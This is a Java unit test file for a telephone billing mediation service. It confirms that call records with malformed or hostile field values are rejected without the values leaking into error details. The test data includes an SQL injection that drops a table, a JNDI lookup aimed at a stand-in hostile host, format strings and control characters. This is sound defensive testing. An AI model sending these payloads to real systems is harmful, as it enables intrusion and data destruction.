package org.cdrflow.mediation;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;

import java.time.Instant;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.cdrflow.cdr.IncomingCdr;
import org.cdrflow.domain.MediatedCall;
import org.cdrflow.reference.ReferenceData;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The feed comes from a subprocessor and is untrusted: a record of a real subscriber that is valid
 * in every rated field but carries garbage elsewhere must be rejected, not billed, and garbage must
 * never reach an output row, a key or a log (docs/mediation.md, "Rejects").
 */
class UntrustedFieldsTest {
  private static final long NOW = Instant.parse("2026-10-20T12:00:00Z").toEpochMilli();
  private static final ReferenceData REF = CdrMediationTest.reference().build();
  private final CdrMediation mediation = new CdrMediation("HOME");

  static Stream<Arguments> garbage() {
    return Stream.of(
        // NUL: PostgreSQL text cannot hold it; the sink failed and the job with it.
        rejected("networkElement \\0", r -> r.networkElement = "MSC\u0000OSL", "BAD_VALUE"),
        rejected("callReference '|'", r -> r.callReference = "A|B", "BAD_VALUE"),
        rejected("callReference 129 chars", r -> r.callReference = "C".repeat(129), "BAD_VALUE"),
        rejected("callReference 1 MB", r -> r.callReference = "C".repeat(1 << 20), "BAD_VALUE"),
        rejected(
            "causeForTerm SQL",
            r -> r.causeForTerm = "NORMAL'); drop table invoice_line;--",
            "BAD_VALUE"),
        rejected("causeForTerm controls", r -> r.causeForTerm = "NORMAL\u001b[2J", "BAD_VALUE"),
        rejected("inTrunk format string", r -> r.inTrunk = "%s%n", "BAD_VALUE"),
        rejected(
            "outTrunk jndi", r -> r.outTrunk = "${jndi:ldap://hostile.invalid/a}", "BAD_VALUE"),
        rejected("servedImsi text", r -> r.servedImsi = "242770000000101'--", "BAD_VALUE"),
        rejected("servedImsi 16 digits", r -> r.servedImsi = "2427700000001011", "BAD_VALUE"),
        // Not the counterpart of a MOC, so never looked at before; garbage there is still garbage.
        rejected(
            "callingNumber of a MOC", r -> r.callingNumber = "+4791000101 or 1=1", "BAD_NUMBER"),
        rejected("callingNumber no digits", r -> r.callingNumber = "()", "BAD_NUMBER"),
        // The answer time is the event time, but a seizure in 1970 is a broken record.
        rejected("seizureTime 0", r -> r.seizureTime = 0L, "BAD_TIME"),
        rejected("seizureTime Long.MIN_VALUE", r -> r.seizureTime = Long.MIN_VALUE, "BAD_TIME"),
        rejected(
            "uplinkBytes Long.MAX_VALUE (the sum overflowed)",
            r -> data(r, Long.MAX_VALUE, 1L),
            "BAD_VALUE"),
        rejected("downlinkBytes 100 PB", r -> data(r, 0L, 100_000_000_000_000_000L), "BAD_VALUE"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("garbage")
  void aSubscribersRecordWithGarbageIsRejected(
      String name, Consumer<IncomingCdr> change, String reason) {
    MediationOutcome out = mediation.mediate(CdrMediationTest.moc(change), REF, NOW);

    MediationOutcome.Rejected r = assertInstanceOf(MediationOutcome.Rejected.class, out);
    assertEquals(reason, r.reason().name(), r.detail());
    for (String leak : new String[] {"91000101", "drop table", "jndi", "%s", "\u0000", "|B"}) {
      assertFalse(r.detail().contains(leak), "the detail quotes the value: " + r.detail());
    }
  }

  @Test
  void idsAsRealSwitchesAndSessionBorderControllersWriteThemAreAccepted() {
    MediationOutcome out =
        mediation.mediate(
            CdrMediationTest.moc(
                r -> {
                  r.networkElement = "TAP-24001";
                  r.callReference = "0A1F88c3-77@sbc1.example.net:5060";
                  r.causeForTerm = "normalRelease";
                  r.outTrunk = "OSL-OPA-1";
                  r.servedImsi = "242770000000101";
                  r.callingNumber = "004791000101";
                }),
            REF,
            NOW);

    assertInstanceOf(MediationOutcome.Mediated.class, out);
  }

  @Test
  void tenTerabytesInOneDirectionIsStillRated() {
    MediationOutcome out =
        mediation.mediate(
            CdrMediationTest.moc(r -> data(r, CdrMediation.MAX_RECORD_BYTES, 0L)), REF, NOW);

    MediatedCall call = assertInstanceOf(MediationOutcome.Mediated.class, out).call();
    assertEquals(CdrMediation.MAX_RECORD_BYTES, call.volumeBytes);
  }

  private static Arguments rejected(String name, Consumer<IncomingCdr> change, String reason) {
    return Arguments.of(name, change, reason);
  }

  private static void data(IncomingCdr r, long up, long down) {
    r.recordType = "DATA";
    r.calledNumber = null;
    r.answerTime = null;
    r.durationSeconds = 600;
    r.uplinkBytes = up;
    r.downlinkBytes = down;
  }
}
